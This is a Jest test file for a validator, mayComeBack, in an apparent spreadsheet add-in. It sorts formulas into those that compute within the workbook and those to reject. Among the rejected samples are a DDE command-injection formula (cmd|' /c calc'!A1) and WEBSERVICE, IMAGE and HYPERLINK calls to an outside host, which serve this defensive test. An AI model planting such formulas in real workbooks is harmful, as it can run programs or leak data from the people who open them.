import { mayComeBack } from '../../../src/workbook/freeze/may-come-back';

test.each([
  '=KIM.EIGENANTEIL(329884,206250)',
  '=ROUND(SUM(KIM.KOSTEN(A1,B1),Haushalt!C4),2)',
  '=_xlfn.LET(_xlpm.x,KIM.KOSTEN(Tabelle1[Kosten],2),_xlpm.x*Stellen!$B$2)',
  `=IF(A1="siehe [1]Akte!A1 | WEBSERVICE(x)",KIM.KOSTEN('Meine Stellen'!D2),0)`,
  `=KIM.KOSTEN('Stellen (2)'!D2,'Personal | KIM'!B2)`,
])('%s computes with this workbook alone', (formula) => {
  expect(mayComeBack(formula)).toBe(true);
});

test.each([
  ['=WEBSERVICE("https://example.org")', 'calls no function of ours'],
  ['=KIM.KOSTEN(WEBSERVICE("https://example.org/"&A1))', 'asks the web'],
  ['=KIM.KOSTEN(_xlfn.WEBSERVICE(A1))', 'asks the web by its stored name'],
  [`=KIM.KOSTEN(cmd|' /c calc'!A1)`, 'starts another program'],
  [`='A"B'!A1+KIM.KOSTEN(WEBSERVICE(A1))+'C"D'!A1`, 'asks the web between quotation marks of sheet names'],
  ['=KIM.KOSTEN([1]Stellen!A1)', 'reads another workbook'],
  [`=KIM.KOSTEN('C:\\Akten\\[Stellen.xlsx]Blatt 1'!A1)`, 'reads another workbook by its path'],
  [`=KIM.KOSTEN('C:\\Akten\\Stellen.xlsx'!Kosten)`, 'reads a name of another workbook'],
  ['=KIM.KOSTEN(INDIRECT(A1))', 'reads from where a text says'],
  ['=KIM.KOSTEN(HYPERLINK("https://example.org","x"))', 'leads elsewhere'],
  ['=KIM.KOSTEN(1)+CONTOSO.SENDEN(A1)', 'calls another add-in'],
  ['=KIM.KOSTEN(1)+IMAGE("https://example.org/x.png")', 'loads a picture'],
])('%s does not come back: it %s', (formula) => {
  expect(mayComeBack(formula)).toBe(false);
});
